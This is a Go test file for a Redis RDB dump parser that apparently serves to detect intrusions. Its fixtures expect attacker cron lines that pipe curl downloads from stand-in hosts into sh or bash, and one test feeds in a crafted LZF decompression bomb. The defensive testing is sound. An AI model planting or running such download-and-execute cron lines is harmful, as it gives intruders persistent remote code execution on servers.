package rdb

import (
	"bytes"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
)

// The dumps were written by redis-server 7.0.15: plain.rdb and lzf.rdb with a
// cron line as an intruder sets it, without and with rdbcompression; lists.rdb
// with one big value of every type.
func dump(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestHeader(t *testing.T) {
	got, ok := Header(dump(t, "plain.rdb"))
	want := Mark{fact.RDBMark{Version: 10, Redis: "7.0.15", Saved: time.Unix(0x6b03112f, 0).UTC()}, 0x50}
	if d := cmp.Diff(want, got); d != "" || !ok {
		t.Errorf("ok %v (-want +got):\n%s", ok, d)
	}
	for _, c := range []struct {
		in   string
		ok   bool
		want Mark
	}{
		{"", false, Mark{}}, {"REDIS001", false, Mark{}}, {"REDIS00x1", false, Mark{}}, {" REDIS0010", false, Mark{}},
		{"REDIS0006", true, Mark{fact.RDBMark{Version: 6}, 9}},
		{"REDIS0009\xfa\x09redis-ver\x055.0", true, Mark{fact.RDBMark{Version: 9}, 9}},
		{"REDIS0009\xfa\x09redis-ver\x055.0.7\xfa\x05ctime\xc1\x01\x00", true, Mark{fact.RDBMark{Version: 9, Redis: "5.0.7", Saved: time.Unix(1, 0).UTC()}, 36}},
	} {
		got, ok := Header([]byte(c.in))
		if d := cmp.Diff(c.want, got); d != "" || ok != c.ok {
			t.Errorf("%q: ok %v (-want +got):\n%s", c.in, ok, d)
		}
	}
}

func TestStrings(t *testing.T) {
	const line = "\n\n*/5 19-23,0-7 * * * curl -fsSL https://h/api/report?pm=k | sh\n\n"
	if d := cmp.Diff([]Entry{{"x", line, 0x58}}, Strings(dump(t, "plain.rdb"), 10)); d != "" {
		t.Errorf("plain (-want +got):\n%s", d)
	}
	got := map[string]string{}
	for _, e := range Strings(dump(t, "lzf.rdb"), 5000) {
		got[e.Key] += e.Value
	}
	if !strings.HasPrefix(got["backup1"], "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/plugins/pm.sh | bash\n\n\n*/2 *") ||
		strings.Count(got["backup1"], "| bash\n") != 4 {
		t.Errorf("compressed: %q", got["backup1"])
	}
	for key, want := range map[string]string{"num": "12345", "neg": "-7", "ttl": "*/9 * * * * ttl job", "last": "in db 3"} {
		if got[key] != want {
			t.Errorf("%s: %q, want %q", key, got[key], want)
		}
	}
	for key, part := range map[string]string{"h": "v", "l": "a b", "big": "f546v546", "st": "a"} {
		if !strings.Contains(got[key], part) {
			t.Errorf("%s: %q is not in %q", key, part, got[key])
		}
	}
	all := Strings(dump(t, "lists.rdb"), 1e6)
	keys := map[string]bool{}
	for _, e := range all {
		keys[e.Key] = true
	}
	want := map[string]bool{"": true, "biglist": true, "sset": true, "hh": true, "zz": true, "zbig": true, "sbig": true, "zlast": true}
	if d := cmp.Diff(want, keys); d != "" {
		t.Errorf("keys (-want +got):\n%s", d)
	}
	if n := len(Strings(dump(t, "lists.rdb"), 3)); n != 3 {
		t.Errorf("capped: %d", n)
	}
}

// A bomb: a short LZF string that says it is long.
func TestBomb(t *testing.T) {
	bomb := append([]byte("REDIS0010\x00\x01k\xc3\x80\x00\x10\x00\x00\x80\x7f\xff\xff\xff\x00a"), bytes.Repeat([]byte{0xe0, 0xff, 0}, 1<<20/3)...)
	got := Strings(append(bomb, 0), 100)
	if len(got) != 1 || len(got[0].Value) != maxString {
		t.Errorf("%d entries", len(got))
	}
}

func FuzzStrings(f *testing.F) {
	for _, name := range []string{"plain.rdb", "lzf.rdb", "lists.rdb"} {
		b := dump(f, name)
		f.Add(b)
		f.Add(b[:min(len(b), 300)])
	}
	f.Add([]byte("REDIS0010\x13\x01s\x01\x01a\x01b\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01g\x01\x01\x01\x00\x00\x00\x02v\xff"))
	f.Fuzz(func(t *testing.T, b []byte) {
		m, ok := Header(b)
		got := Strings(b, 50)
		if !ok && got != nil || ok && (m.End < magicLen || m.End > len(b)) {
			t.Fatalf("%v %+v %d entries", ok, m, len(got))
		}
		last, total := m.End-1, 0
		for _, e := range got {
			if e.Offset <= last || e.Offset >= len(b) || len(e.Value) > maxString {
				t.Fatalf("offset %d after %d, %d bytes", e.Offset, last, len(e.Value))
			}
			last, total = e.Offset, total+len(e.Value)
		}
		if len(got) > 50 || total > maxBytes+maxString {
			t.Fatalf("%d entries, %d bytes", len(got), total)
		}
		// A dump that is cut off gives the same entries, but for the last.
		short := Strings(b[:len(b)/2], 50)
		for i := range max(0, len(short)-1) {
			if short[i] != got[i] {
				t.Fatalf("cut off: %+v, whole: %+v", short[i], got[i])
			}
		}
	})
}
